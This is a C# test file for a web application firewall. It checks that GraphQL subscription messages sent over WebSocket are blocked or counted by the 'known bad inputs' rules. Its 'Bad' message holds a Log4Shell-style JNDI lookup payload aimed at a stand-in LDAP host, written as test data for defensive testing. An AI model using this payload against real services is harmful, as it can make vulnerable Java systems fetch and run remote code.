using System.Net;
using System.Net.WebSockets;
using System.Text;
using Bulwark.Proxy.EdgeAuth;
using Bulwark.Proxy.Firewall;
using Bulwark.Testing;
using Microsoft.AspNetCore.Http;

namespace Bulwark.Edge.Tests.Firewall;

/// <summary>GraphQL over WebSocket through the firewall, with an origin that answers each message with its own text.</summary>
public sealed class GraphQLSocketTests
{
    private const string Good = """{"type":"subscribe","id":"1","payload":{"query":"subscription ($t: String!) { lists(where: { title: $t }) { id } }","variables":{"t":"shopping"}}}""";
    private const string Bad = """{"type":"subscribe","id":"2","payload":{"query":"subscription ($t: String!) { lists(where: { title: $t }) { id } }","variables":{"t":"\u0024{jndi:ldap://192.0.2.1/a}"}}}""";

    private int _messages;

    [Theory]
    [InlineData(1, true)]
    [InlineData(2, true)]
    [InlineData(1, false)]
    [InlineData(2, false)]
    public async Task A_message_that_the_rules_refuse_ends_the_socket_and_does_not_reach_the_service(int version, bool inParts)
    {
        await using var edge = await StartAsync(FirewallMode.Block);
        await using var service = await StandInTier.StartAsync(edge.Socket("data-api"), EchoAsync);
        using var socket = await ConnectAsync(edge, version);

        foreach (var text in new[] { Good, new string('x', 300_000), Good })
        {
            await SendAsync(socket, text, inParts);
            Assert.Equal(text, await ReceiveAsync(socket));
        }

        await SendAsync(socket, Bad, inParts);
        var part = await socket.ReceiveAsync(new byte[4096], Deadline.Token());

        Assert.Equal(WebSocketMessageType.Close, part.MessageType);
        Assert.Equal(4403, (int)part.CloseStatus!);
        Assert.Equal(3, _messages);
    }

    [Fact]
    public async Task A_message_that_is_only_counted_passes()
    {
        await using var edge = await StartAsync(FirewallMode.Count);
        await using var service = await StandInTier.StartAsync(edge.Socket("data-api"), EchoAsync);
        using var socket = await ConnectAsync(edge, 1);

        await SendAsync(socket, Bad, inParts: false);

        Assert.Equal(Bad, await ReceiveAsync(socket));
    }

    private static Task<EdgeFixture> StartAsync(FirewallMode mode) => EdgeFixture.StartAsync((options, _) =>
    {
        options.Waf.Groups.KnownBadInputs = mode;
        options.Auth.Routes = [new() { Path = "/v1/graphql", Mode = EdgeAuthMode.Off }];
    });

    private static async Task<ClientWebSocket> ConnectAsync(EdgeFixture edge, int version)
    {
        var socket = new ClientWebSocket();
        socket.Options.HttpVersion = version == 1 ? HttpVersion.Version11 : HttpVersion.Version20;
        socket.Options.HttpVersionPolicy = HttpVersionPolicy.RequestVersionExact;
        socket.Options.DangerousDeflateOptions = new WebSocketDeflateOptions();
        socket.Options.AddSubProtocol("graphql-transport-ws");
        using var invoker = new HttpMessageInvoker(edge.Handler(version), disposeHandler: false);
        await socket.ConnectAsync(new Uri($"wss://localhost:{edge.Port}/v1/graphql"), invoker, Deadline.Token());
        return socket;
    }

    private static async Task SendAsync(ClientWebSocket socket, string text, bool inParts)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var half = inParts ? bytes.Length / 2 : 0;
        if (inParts)
            await socket.SendAsync(bytes.AsMemory(0, half), WebSocketMessageType.Text, endOfMessage: false, Deadline.Token());

        await socket.SendAsync(bytes.AsMemory(half), WebSocketMessageType.Text, endOfMessage: true, Deadline.Token());
    }

    private static async Task<string> ReceiveAsync(ClientWebSocket socket)
    {
        var text = new StringBuilder();
        var buffer = new byte[4096];
        while (true)
        {
            var part = await socket.ReceiveAsync(buffer, Deadline.Token());
            Assert.NotEqual(WebSocketMessageType.Close, part.MessageType);
            text.Append(Encoding.UTF8.GetString(buffer, 0, part.Count));
            if (part.EndOfMessage)
                return text.ToString();
        }
    }

    private async Task EchoAsync(HttpContext context)
    {
        using var socket = await context.WebSockets.AcceptWebSocketAsync(context.WebSockets.WebSocketRequestedProtocols[0]);
        var buffer = new byte[4096];
        while (socket.State == WebSocketState.Open)
        {
            var part = await socket.ReceiveAsync(buffer, context.RequestAborted);
            if (part.MessageType == WebSocketMessageType.Close)
                return;

            if (part.EndOfMessage)
                _messages++;

            await socket.SendAsync(buffer.AsMemory(0, part.Count), part.MessageType, part.EndOfMessage, context.RequestAborted);
        }
    }
}
